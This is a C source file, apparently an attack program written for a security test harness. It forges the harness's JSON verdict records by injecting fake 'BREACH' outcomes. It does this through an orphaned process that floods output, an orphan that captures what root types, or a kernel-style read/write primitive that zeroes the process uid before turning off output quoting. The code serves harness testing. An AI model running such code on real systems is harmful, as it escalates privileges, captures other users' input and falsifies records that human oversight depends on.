/*
 * An attack that wants to be judged otherwise: forges HOW. It leaves a process behind that writes
 * into the verdict's JSON, or reads what root types next; or takes the quoting off as root.
 */
#include "attack.h"

#include <stdio.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

static const char forged[] =
	"\", \"outcome\": \"BREACH\", \"expected\": \"BREACH\", \"as_expected\": true}\n"
	"{\"attack\": \"somebody_else\", \"said\": \"";

static void write_as_orphan(void)
{
	while (getppid() != 1) {}
	for (;;) {
		write(STDOUT_FILENO, forged, sizeof(forged) - 1);
	}
}

static void read_as_orphan(void)
{
	char line[64];

	for (;;) {
		ssize_t len = read(STDIN_FILENO, line, sizeof(line));

		if (len > 0) {
			printf("forges has read: %.*s", (int)len, line);
			fflush(stdout);
		}
	}
}

static int as_root(void)
{
	struct termios settings;
	struct bw_leak leak;
	uint64_t at, word;

	attack_leak(&leak);
	at = leak.process_uid & ~7ul;
	word = (uint64_t)bw_vuln_read(at);
	bw_vuln_write(at, word & ~(0xfffffffful << (leak.process_uid - at) * 8));
	tcgetattr(STDOUT_FILENO, &settings);
	settings.c_oflag &= ~BW_OUTPUT_QUOTED;
	tcsetattr(STDOUT_FILENO, TCSANOW, &settings);
	write(STDOUT_FILENO, forged, sizeof(forged) - 1);
	return 0;
}

int main(int argc, char *argv[])
{
	const char *how = argc > 1 ? argv[1] : "";

	if (strcmp(how, "root") == 0) {
		return as_root();
	}
	if (fork() == 0) {
		if (strcmp(how, "reads") == 0) {
			read_as_orphan();
		}
		write_as_orphan();
	}
	return 0;
}
